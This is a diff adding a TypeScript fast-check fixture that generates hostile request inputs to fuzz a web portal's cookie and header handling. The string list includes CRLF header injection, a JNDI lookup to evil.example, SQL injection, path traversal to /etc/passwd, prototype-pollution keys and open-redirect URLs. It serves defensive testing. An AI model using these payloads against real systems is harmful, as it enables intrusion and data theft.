@@ -1,0 +1,98 @@
+import fc from 'fast-check';
+import { header } from '@/contract/headers';
+
+const naughty = [
+  '',
+  ' ',
+  'a%0d%0ab',
+  '%0d%0aSet-Cookie:%20x=y',
+  '%e2%82%ac',
+  '%f0%9f%98%80',
+  '%00',
+  '%ff',
+  '%',
+  '%zz',
+  '%ed%a0%80',
+  'a\u0000b',
+  '\u00e9\u00fc',
+  '\u00c3\u0080',
+  '"',
+  '{',
+  '{"code":"tr"}',
+  '%7B%22code%22%3A%22..%2F..%2Fx%22%7D',
+  '%7B%22__proto__%22%3A1%7D',
+  '__proto__',
+  '../../../etc/passwd',
+  '..%2f..%2fadmin',
+  '${jndi:ldap://evil.example}',
+  "' or 1=1 --",
+  'https://evil.example/',
+  '//evil.example',
+  'a.b.c.d.e',
+  'eyJhbGciOiJkaXIifQ..AAAA.BBBB.CCCC',
+  'x'.repeat(3_000),
+  '9007199254740993',
+  '-1',
+  '1e309',
+  'NaN',
+  'true',
+];
+/** Text that no part of a request should be. */
+export const junk = fc.oneof(
+  { weight: 3, arbitrary: fc.constantFrom(...naughty) },
+  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 40 }).map((bytes) => Buffer.from(bytes).toString('latin1')) },
+  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }).map(percentEncoded) },
+);
+
+function percentEncoded(text: string): string {
+  return [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
+}
+
+/** Cookies that the portal reads, and some that it must not. */
+export const cookieNames = [
+  ...['lp.sid', 'lp.csrf', 'lp.cb', 'lp.browser', 'lp.ended', 'lp.sid.0', 'lp.sid.9'].flatMap((name) => [
+    name,
+    `__Host-${name}`,
+  ]),
+  'SelectedLanguage',
+  'SelectedCountry',
+  'cc_cookie',
+  '__proto__',
+];
+/** Headers that mean something to the portal, to Next, to next-auth or to a proxy. */
+export const headerNames = [
+  ...Object.values(header),
+  'accept',
+  'accept-encoding',
+  'content-type',
+  'expect',
+  'forwarded',
+  'if-modified-since',
+  'if-none-match',
+  'next-router-state-tree',
+  'next-url',
+  'origin',
+  'purpose',
+  'range',
+  'referer',
+  'rsc',
+  'sec-fetch-dest',
+  'sec-fetch-mode',
+  'sec-fetch-site',
+  'stripe-signature',
+  'user-agent',
+  'x-forwarded-for',
+  'x-forwarded-proto',
+  'x-http-method-override',
+  'x-lp-client-address',
+  'x-middleware-subrequest',
+  'x-nextjs-data',
+];
+/** What a cookie's decoded value may hold and a header may not. */
+export const undecodable = naughty.filter((text) => text.includes('%'));
+
+/** What of a text may stand in a request line: a space or a line's end would make it another line. */
+export const inTarget = (text: string) => text.replaceAll(/[\u0000-\u0020\u007f]/g, '_');
+/** What of a text may stand in a header's line: anything but its end. */
+export const inLine = (text: string) => text.replaceAll(/[\r\n]/g, '_');
